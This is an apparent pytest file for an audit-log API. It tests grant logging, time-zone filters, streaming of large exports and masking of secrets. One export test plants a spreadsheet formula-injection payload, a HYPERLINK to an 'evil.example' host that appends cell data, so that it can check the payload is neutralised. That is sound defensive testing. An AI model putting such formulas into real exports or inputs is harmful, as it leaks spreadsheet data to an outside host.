"""The audit log under load and under attack: grants, time zones, export safety and size, masked secrets."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

import httpx
from fastapi import FastAPI
from openpyxl import load_workbook
from sqlalchemy import text

from dialer.audit.endpoints import EXPORT_BATCH, AuditFilter, _cells, _rows
from dialer.audit.recorder import Actor, log
from dialer.export import csv_chunks
from dialer.models.enums import AuditAction
from tests.conftest import make_user


async def test_grant_changes_are_logged_as_old_and_new_value(app: FastAPI, admin: httpx.AsyncClient) -> None:
    user_id = await make_user(app, "kate")
    await admin.patch(f"/api/users/{user_id}", json={"grants": {"audit.read": True, "contacts.delete": False}})
    await admin.patch(f"/api/users/{user_id}", json={"grants": {"audit.read": True}})
    await admin.patch(f"/api/users/{user_id}", json={"grants": {}})
    items = (await admin.get("/api/audit", params={"object_type": "users", "object_id": str(user_id),
                                                   "sort": "id"})).json()["items"]
    changes = [e["changes"]["grants"] for e in items if "grants" in e["changes"]]
    assert changes == [
        {"old": {}, "new": {"audit.read": True, "contacts.delete": False}},
        {"old": {"audit.read": True, "contacts.delete": False}, "new": {"audit.read": True}},
        {"old": {"audit.read": True}, "new": {}},
    ]
    assert all(e["user_login"] == "admin" and e["user_roles"] == "admin" for e in items if "grants" in e["changes"])


async def test_date_filters_understand_offsets(admin: httpx.AsyncClient) -> None:
    await admin.post("/api/skills", json={"name": "A"})
    entry = (await admin.get("/api/audit", params={"object_type": "skills"})).json()["items"][0]
    at = datetime.fromisoformat(entry["at"])
    moscow = at.astimezone(UTC) + timedelta(hours=3)
    cases = {
        # The same instant in Moscow time includes the entry; a moment later excludes it.
        (moscow.strftime("%Y-%m-%dT%H:%M:%S.%f") + "+03:00", None): 1,
        ((moscow + timedelta(seconds=1)).strftime("%Y-%m-%dT%H:%M:%S") + "+03:00", None): 0,
        # Without an offset: UTC. Mixed forms do not break the comparison between since and until.
        ((at - timedelta(seconds=1)).astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%S"), "2999-01-01T00:00:00+03:00"): 1,
        (None, (at - timedelta(seconds=1)).astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%S")): 0,
    }
    for (since, until), expected in cases.items():
        params = {"object_type": "skills", **({"since": since} if since else {}), **({"until": until} if until else {})}
        r = await admin.get("/api/audit", params=params)
        assert r.status_code == 200, (params, r.text)
        assert r.json()["total"] == expected, params
    # An offset written with an unencoded '+' arrives as a space; it is still read as the offset.
    raw = "/api/audit?object_type=skills&since=" + moscow.strftime("%Y-%m-%dT%H:%M:%S.%f") + "+03:00"
    r = await admin.get(raw)
    assert r.status_code == 200 and r.json()["total"] == 1, r.text
    r = await admin.get("/api/audit", params={"since": "2030-01-01T00:00:00+03:00", "until": "2029-12-31T21:00:00"})
    assert r.status_code == 422 and r.json()["errors"][0]["field"] == "until"


async def test_export_does_not_run_formulas_in_spreadsheets(admin: httpx.AsyncClient) -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    r = await admin.post("/api/users", json={"login": "mallory", "full_name": evil, "password": "long-enough-1"})
    assert r.status_code == 201
    r = await admin.post("/api/skills", json={"name": "@SUM(1+1)"})
    r = await admin.get("/api/audit/export", params={"format": "csv"})
    body = r.content.decode("utf-8")
    assert body.startswith("\ufeffid;at;")
    for row in csv.reader(io.StringIO(body.removeprefix("\ufeff")), delimiter=";"):
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row), row
    r = await admin.get("/api/audit/export", params={"format": "xlsx"})
    sheet = load_workbook(io.BytesIO(r.content)).active
    assert sheet is not None
    for row in sheet.iter_rows(min_row=2):
        assert all(cell.data_type != "f" for cell in row)
        assert isinstance(row[1].value, datetime)  # a real date, in UTC
    # Who exported what is recorded.
    items = (await admin.get("/api/audit", params={"object_type": "audit_log"})).json()["items"]
    assert [e["event"] for e in items] == ["export xlsx", "export csv"]


async def test_export_of_a_large_log_streams_every_row(app: FastAPI, admin: httpx.AsyncClient) -> None:
    n = 12_345
    async with app.state.engine.begin() as conn:
        await conn.execute(text(
            "INSERT INTO audit_log (user_login, action, object_type, object_id, changes) "
            "SELECT 'bulk', 'created', 'things', g::text, jsonb_build_object('name', jsonb_build_object("
            "'old', null, 'new', 'Имя ' || g)) FROM generate_series(1, :n) g"), {"n": n})
    r = await admin.get("/api/audit/export", params={"format": "csv", "object_type": "things"})
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    lines = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig")), delimiter=";"))
    assert len(lines) == n + 1 and lines[-1][7] == str(n) and "Имя 12345" in lines[-1][8]
    # The body is produced batch by batch from a cursor (the test transport buffers it, so look at the source).
    rows = _rows(app.state.sessionmaker, AuditFilter(object_type="things"), _cells)
    chunks = [c async for c in csv_chunks(["header"], rows)]
    assert len(chunks) >= n // EXPORT_BATCH and max(map(len, chunks)) < 2 * len(r.content) / len(chunks)
    r = await admin.get("/api/audit/export", params={"format": "xlsx", "object_type": "things"})
    sheet = load_workbook(io.BytesIO(r.content), read_only=True).active
    assert sheet is not None and sum(1 for _ in sheet.iter_rows(values_only=True)) == n + 1


async def test_secrets_are_masked_in_entries_written_by_services(app: FastAPI) -> None:
    async with app.state.sessionmaker() as session, session.begin():
        session.info["actor"] = Actor(None, "tester")
        await log(session, AuditAction.updated, "sip_devices", 1, changes={
            "sip_password": {"old": "old-secret", "new": "new-secret"}, "name": {"old": "a", "new": "b"}})
    async with app.state.engine.connect() as conn:
        changes = (await conn.execute(text(
            "SELECT changes FROM audit_log WHERE object_type = 'sip_devices'"))).scalar_one()
    assert changes == {"sip_password": {"old": "***", "new": "***"}, "name": {"old": "a", "new": "b"}}
